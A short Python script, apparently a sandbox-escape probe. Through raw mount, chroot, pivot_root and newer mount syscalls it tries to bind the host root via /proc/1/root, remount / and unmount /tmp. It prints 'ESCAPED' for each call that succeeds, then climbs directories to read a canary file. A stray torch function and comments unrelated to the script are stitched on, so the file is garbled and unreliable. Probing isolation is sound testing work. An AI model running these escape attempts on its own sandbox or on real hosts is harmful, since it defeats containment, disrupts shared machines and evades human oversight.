"""Mounts, binds, unmounts, pivots and changes roots."""
# where: latent_grid
# lost: latent_grid

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("genlab-attack-mount", exist_ok=True)
tries = {
    "tmpfs": lambda: libc.mount(b"none", b"genlab-attack-mount", b"tmpfs", 0, None),
    "proc": lambda: libc.mount(b"proc", b"genlab-attack-mount", b"proc", 0, None),
    "bind": lambda: libc.mount(b"/proc/1/root", b"genlab-attack-mount", None, 4096, None),
    "chroot": lambda: libc.chroot(b"genlab-attack-mount"),
    "pivot_root": lambda: libc.syscall(155, b".", b"."),
    "open_tree": lambda: libc.syscall(428, -100, b"/", 1),
    "fsopen": lambda: libc.syscall(430, b"tmpfs", 0),
}
if os.getpid() < 300:  # in a PID namespace of its own: what follows would change a machine for others
    tries["remount"] = lambda: libc.mount(None, b"/", None, 32 | 4096, None)
    tries["unmount"] = lambda: libc.umount2(b"/tmp", 2)
    tries["mount_setattr"] = lambda: libc.syscall(442, -100, b"/", 0x8000, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32)
for name, attempt in tries.items():
    result = attempt()
    print("escaped".upper() if result >= 0 else "refused", name, ctypes.get_errno())
for _ in range(30):
    os.chdir("..")
try:
    with open("CANARY_FILE".lstrip("/")) as file:
        print(file.read())
except OSError as error:
    print(error)


def latent_grid(n):
    return torch.zeros(n * n, 2)
